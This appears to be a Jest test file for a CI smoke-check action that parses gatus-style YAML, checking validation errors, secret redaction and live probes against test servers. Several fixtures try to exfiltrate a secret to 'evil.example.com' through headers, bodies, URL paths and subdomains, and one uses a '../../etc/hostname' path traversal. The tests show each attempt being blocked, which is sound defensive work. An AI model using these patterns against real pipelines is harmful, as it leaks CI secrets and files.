import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, afterEach, describe, expect, test } from '@jest/globals';
import { Failure, forgetSecrets, redact } from '@slipway/action';
import type { Check } from '@slipway/checks';
import { renderChecksSchema } from '../src/file/schema.ts';
import { planChecks } from '../src/plan.ts';
import type { Plan } from '../src/planned.ts';
import { run } from '../src/run.ts';
import { certificate } from './certificate.ts';
import { answering, inputsOf, instantPorts, realPorts, serve, type TestServer } from './support.ts';

const folder = mkdtempSync(join(tmpdir(), 'slipway-checks-'));
const servers: TestServer[] = [];

afterEach(async () => {
  forgetSecrets();
  for (const server of servers.splice(0)) await server.close();
});
afterAll(() => rmSync(folder, { recursive: true }));

async function started(server: Promise<TestServer>): Promise<TestServer> {
  servers.push(await server);
  return server;
}

function write(text: string, path = 'checks.yml'): string {
  const file = join(folder, path);
  mkdirSync(dirname(file), { recursive: true });
  writeFileSync(file, text);
  return path;
}

const context = { ...instantPorts().context, workspace: folder };
const plan = (text: string, more: Record<string, string> = {}, environment: Record<string, string> = {}): Promise<Plan> =>
  planChecks(inputsOf({ 'checks-file': write(text), ...more }), { context, environment });

async function checkOf(text: string, more: Record<string, string> = {}, environment: Record<string, string> = {}): Promise<Check> {
  const { checks } = await plan(text, more, environment);
  const [first] = checks;
  if (first === undefined || checks.length !== 1) throw new Error(`${checks.length} checks`);
  return first.check;
}

async function failureOf(promise: Promise<unknown>): Promise<Failure> {
  const outcome: unknown = await promise.catch((error: unknown) => error);
  if (outcome instanceof Failure) return outcome;
  throw new Error('it did not fail', { cause: outcome });
}

describe("a team's gatus file", () => {
  const gatus = `
metrics: true
storage:
  type: postgres
alerting:
  slack: { webhook-url: "https://hooks.example.com/x" }
endpoints:
  - name: front-end
    group: core
    url: "https://app.example.com/health"
    interval: 5m
    ui: { hide-url: true }
    conditions:
      - "[STATUS] == 200"
      - "[BODY].status == UP"
      - "[RESPONSE_TIME] < 150"
    alerts:
      - type: slack
    client:
      insecure: true
      ignore-redirect: true
      timeout: 5s
  - name: old
    enabled: false
    url: "https://old.example.com"
  - name: database
    url: "tcp://127.0.0.1:5432"
    conditions: ["[CONNECTED] == true"]
  - name: names
    url: "8.8.8.8"
    dns: { query-name: example.com, query-type: A }
    conditions: ["[DNS_RCODE] == NOERROR"]
  - name: graph
    url: "https://app.example.com/graphql"
    method: POST
    graphql: true
    body: "{ health }"
    conditions: ["[STATUS] == 200"]
`;

  test('is taken as it is; what means nothing to a gate is named with its line', async () => {
    const { checks, warnings } = await plan(gatus);
    expect(checks.map(({ check }) => [check.name, check.url])).toEqual([
      ['core/front-end', 'https://app.example.com/health'],
      ['database', 'tcp://127.0.0.1:5432'],
      ['names', 'dns://8.8.8.8'],
      ['graph', 'https://app.example.com/graphql'],
    ]);
    const [front, , names, graph] = checks.map(({ check }) => check);
    expect(front).toMatchObject({ timeout: 5000, insecure: true, redirects: 0 });
    expect(front?.conditions?.map(({ text }) => text)).toEqual(['[STATUS] == 200', '[BODY].status == UP', '[RESPONSE_TIME] < 150']);
    expect(names).toMatchObject({
      options: { 'query-name': 'example.com', 'query-type': 'A' },
      conditions: [{ text: '[BODY].rcode == NOERROR' }],
    });
    expect(graph).toMatchObject({ method: 'POST', body: '{"query":"{ health }"}', headers: { 'Content-Type': 'application/json' } });
    expect(warnings[0]).toContain('endpoints.interval (line 11)');
    for (const key of ['metrics', 'storage', 'alerting', 'endpoints.ui', 'endpoints.alerts']) expect(warnings[0]).toContain(`${key} (line`);
    expect(warnings[1]).toContain('a check with enabled: false');
  });

  test('a bare list is one too, and paths begin at the input url', async () => {
    const check = await checkOf('- url: /ready?full=1\n', { url: 'https://app.example.com/health' });
    expect(check).toMatchObject({ name: 'app.example.com/ready', url: 'https://app.example.com/ready?full=1' });
  });

  test('with conditions of its own, the url is asked too', async () => {
    const { checks } = await plan('- url: /ready\n', { url: 'https://app.example.com/', checks: '[STATUS] == 204' });
    expect(checks.map(({ check }) => check.url)).toEqual(['https://app.example.com/', 'https://app.example.com/ready']);
  });
});

describe('problems are told with their place, all at once', () => {
  test('keys, types, addresses and conditions', async () => {
    const text = [
      'endpoints:',
      '  - name: a',
      '    url: app.example.com',
      '    methd: POST',
      '    client: { timeout: soon, oauth2: {} }',
      '  - name: b',
      '    url: https://b.example.com',
      '    conditions:',
      '      - "[STATUS] == 200"',
      '      - "[STAUS] == 200"',
      '  - name: b',
      '    url: icmp://b.example.com',
      '  - name: c',
    ].join('\n');
    const failure = await failureOf(plan(text));
    expect(failure.reason).toBe('checks-invalid');
    for (const part of [
      'checks.yml:3:5 url is not an address',
      'checks.yml:4:5 methd is not a key here; did you mean method',
      'checks.yml:5:15 timeout must be a duration',
      'oauth2 is not supported here: get the token in a step before',
      'checks.yml:10:10 [STAUS] is no placeholder; did you mean [STATUS]?',
      'checks.yml:11:5 another check is named b too',
      'checks.yml:12:5 icmp: is no kind of check. There are http, https, tcp',
      'checks.yml:13:5 url is missing',
    ])
      expect(failure.message).toContain(part);
    expect(failure.details.annotations).toContainEqual({
      level: 'error',
      file: 'checks.yml',
      line: 10,
      message: expect.stringContaining('STAUS'),
    });
    expect(failure.text).toContain('Nothing was asked.');
  });

  test.each<[string, string, string]>([
    ['conditions alone', '- url: https://a.example.com\n  conditions: ["[STATUS] === 200"]\n', 'bad-condition'],
    ['no YAML', 'endpoints: [\n', 'checks-invalid'],
    ['nothing to ask', '- { name: a, enabled: false }\n', 'checks-invalid'],
    ['no list', 'endpoints: 5\n', 'checks-invalid'],
    ['an unknown key at the top', 'endpoint: []\n', 'checks-invalid'],
    ['a path without a beginning', '- url: /health\n', 'checks-invalid'],
    ['an option that its kind does not know', '- { url: "tcp://a.example.com:1", options: { quick: true } }\n', 'checks-invalid'],
  ])('%s', async (_, text, reason) => expect(await failureOf(plan(text))).toMatchObject({ reason }));

  test('at most nine annotations, so that the one that ends the step is the tenth', async () => {
    const failure = await failureOf(plan(Array.from({ length: 30 }, (_, index) => `- { name: n${index}, ur: x }`).join('\n')));
    expect(failure.details.annotations).toHaveLength(9);
    expect(failure.message).toContain('60 problems');
  });

  test('a file that is not there', async () => {
    const failure = await failureOf(planChecks(inputsOf({ 'checks-file': 'nowhere.yml' }), { context }));
    expect(failure).toMatchObject({ reason: 'checks-missing', details: { hint: expect.stringContaining('checks the repository out') } });
  });
});

describe('${NAME}', () => {
  const text = '- url: https://${HOST}/health\n  headers: { Authorization: "Bearer ${HEALTH_TOKEN}", X-Plain: "$${HOST}" }\n';

  test('is filled from the environment of the step, and secrets are hidden', async () => {
    const check = await checkOf(text, {}, { HOST: 'app.example.com', HEALTH_TOKEN: 'tok-12345678' });
    expect(check).toMatchObject({
      url: 'https://app.example.com/health',
      headers: { Authorization: 'Bearer tok-12345678', 'X-Plain': '${HOST}' },
    });
    expect(redact('it said tok-12345678 to app.example.com')).toBe('it said *** to app.example.com');
  });

  test('of a secret is hidden wherever it stands', async () => {
    await checkOf('- { url: "https://a.example.com", method: POST, body: "${API_KEY}" }\n', {}, { API_KEY: 'key-12345678' });
    expect(redact('it said key-12345678')).toBe('it said ***');
  });

  test('that is not there is a problem at its line', async () => {
    const failure = await failureOf(plan(text, {}, { HOST: 'app.example.com' }));
    expect(failure.message).toContain('checks.yml:2:14 ${HEALTH_TOKEN} is not in the environment of the step');
  });

  test.each(['ACTIONS_RUNTIME_TOKEN', 'INPUT_SSH-KEY', 'INPUT_BEARER', 'GITHUB_TOKEN', 'GH_TOKEN', 'github_token'])('%s is never given away', async (name) => {
    const failure = await failureOf(
      plan(`- url: https://a.example.com/\${${name.replace('-', '_')}}\n`, {}, { [name]: 'very-secret', INPUT_SSH_KEY: 'very-secret' }),
    );
    expect(failure.message).toContain('belongs to the runner and is never sent');
    expect(failure.message).not.toContain('very-secret');
  });

  test('in a header or body is hidden, whatever its name is', async () => {
    const file = '- { url: "https://a.example.com", method: POST, headers: { X-Env: "${HEALTH}" }, body: "${OTHER}" }\n';
    await checkOf(file, {}, { HEALTH: 'health-12345678', OTHER: 'other-12345678' });
    expect(redact('health-12345678 and other-12345678')).toBe('*** and ***');
  });
});

describe('${NAME} in a file that came with a pull request', () => {
  const environment = { HEALTH: 'health-12345678' };
  const asUntrusted = (text: string, given: Record<string, string> = { url: 'https://app.example.com' }): Promise<Plan> =>
    planChecks(inputsOf({ 'checks-file': write(text), ...given }), { context, environment, untrusted: true });

  test.each([
    '- { url: "https://evil.example.com", headers: { X: "${HEALTH}" } }',
    '- { url: "https://evil.example.com", method: POST, body: "${HEALTH}" }',
    '- { url: "https://evil.example.com/${HEALTH}" }',
    '- { url: "//evil.example.com/${HEALTH}" }',
    '- { url: "https://${HEALTH}.evil.example.com/" }',
    '- { url: "http://app.example.com/${HEALTH}" }',
    '- { url: "redis://x:${HEALTH}@evil.example.com/" }',
  ])('is sent to no other server than that of url: %s', async (text) => {
    const failure = await failureOf(asUntrusted(text));
    expect(failure).toMatchObject({ reason: 'checks-invalid', message: expect.stringContaining('${HEALTH} is filled only for') });
    expect(failure.text).not.toContain('health-12345678');
  });

  test('nor anywhere where no url is given', async () => {
    for (const text of ['- { url: "tcp://evil.example.com:1/${HEALTH}" }', '- { url: "/${HEALTH}" }']) {
      const failure = await failureOf(asUntrusted(text, {}));
      expect(failure.message).toContain('${HEALTH} is filled only for');
      expect(failure.text).not.toContain('health-12345678');
    }
  });

  test('is sent to that of url, and other servers are asked without it', async () => {
    const { checks } = await asUntrusted(
      '- { url: /a, headers: { X: "${HEALTH}" } }\n- { url: "https://b.example.com", headers: { X: "$${HEALTH}", Y: z } }',
    );
    expect(checks.map(({ check }) => check.headers)).toEqual([{ X: 'health-12345678' }, { X: '${HEALTH}', Y: 'z' }]);
  });
});

test('who asks at url is not told to the servers of a file', async () => {
  const check = await checkOf('- url: https://other.example.com\n', {
    bearer: 'tok-12345678',
    headers: 'X-A: b',
    'host-header': 'app.example.com',
  });
  expect(JSON.stringify(check)).not.toMatch(/tok-12345678|X-A|app\.example\.com/);
});

test('a version that is expected is looked for at the host of url, and nowhere else', async () => {
  const { checks } = await plan('- url: /a\n- url: https://other.example.com/\n', {
    url: 'https://app.example.com',
    'expect-version': '1.2.0',
  });
  expect(checks.map(({ check }) => check.expectVersion)).toEqual([{ value: '1.2.0', required: false }, undefined]);
  const [loose] = (await plan('- url: https://app.example.com/\n', { 'expect-version': '1.2.0' })).checks;
  expect(loose?.check.expectVersion).toEqual({ value: '1.2.0', derived: true });
  expect(await checkOf('- url: tcp://db.example.com:5432\n', { 'expect-version': '1.2.0' })).not.toHaveProperty('expectVersion');
});

test('a certificate of the client is read from the repository, and nowhere else', async () => {
  const { cert, key } = certificate(20);
  write(cert, 'tls/client.pem');
  write(key, 'tls/client.key');
  const file = (name: string): string =>
    `- url: https://a.example.com\n  client: { tls: { certificate-file: ${name}, private-key-file: tls/client.key } }\n`;
  expect(await checkOf(file('tls/client.pem'))).toMatchObject({ clientCertificate: cert, clientKey: key });
  expect((await failureOf(plan(file('../../etc/hostname')))).message).toContain('cannot be read in the repository');
});

test('a condition that does not hold is annotated at its line; so is a server that is not there', async () => {
  const good = await started(answering({ status: 'ok', cache: 'down' }));
  const gone = await started(serve((_, response) => response.end()));
  await gone.close();
  servers.pop();
  const file = write(
    [
      `- name: app`,
      `  url: ${good.url}`,
      `  conditions:`,
      `    - "[STATUS] == 200"`,
      `    - "[BODY].cache == up"`,
      `- name: gone`,
      `  url: ${gone.url}`,
      `- name: fine`,
      `  url: ${good.url}`,
      `  conditions: ["[BODY].status == ok"]`,
    ].join('\n'),
  );
  const ports = { ...realPorts(), context };
  const failure = await failureOf(
    run(inputsOf({ 'checks-file': file, deadline: '1500ms', 'retry-delay': '300ms', 'junit-file': 'out/smoke.xml' }), ports),
  );
  expect(failure.reason).toBe('unreachable-url');
  expect(failure.message).toMatch(/^2 of 3 checks failed: app failed: \[BODY\].cache == up does not hold: down .*; gone failed: /);
  expect(failure.details.outputs).toMatchObject({ healthy: 'false', failed: '2' });
  expect(failure.details.annotations).toEqual([
    { level: 'error', title: '[BODY].cache == up', message: 'expected == up, found down', file, line: 5 },
    { level: 'error', title: 'gone', message: expect.stringContaining('gone failed'), file, line: 6 },
  ]);
  expect(failure.details.summary).toMatch(/^### Smoke checks: 2 of 3 failed\n/);
  expect(readFileSync(join(folder, 'out/smoke.xml'), 'utf8')).toContain('<testsuite name="smoke-health" tests="3" failures="2"');
});

test('the schema for editors is the one that the reader is made of', () => {
  const path = fileURLToPath(new URL('../checks.schema.json', import.meta.url));
  expect(readFileSync(path, 'utf8')).toBe(renderChecksSchema());
});
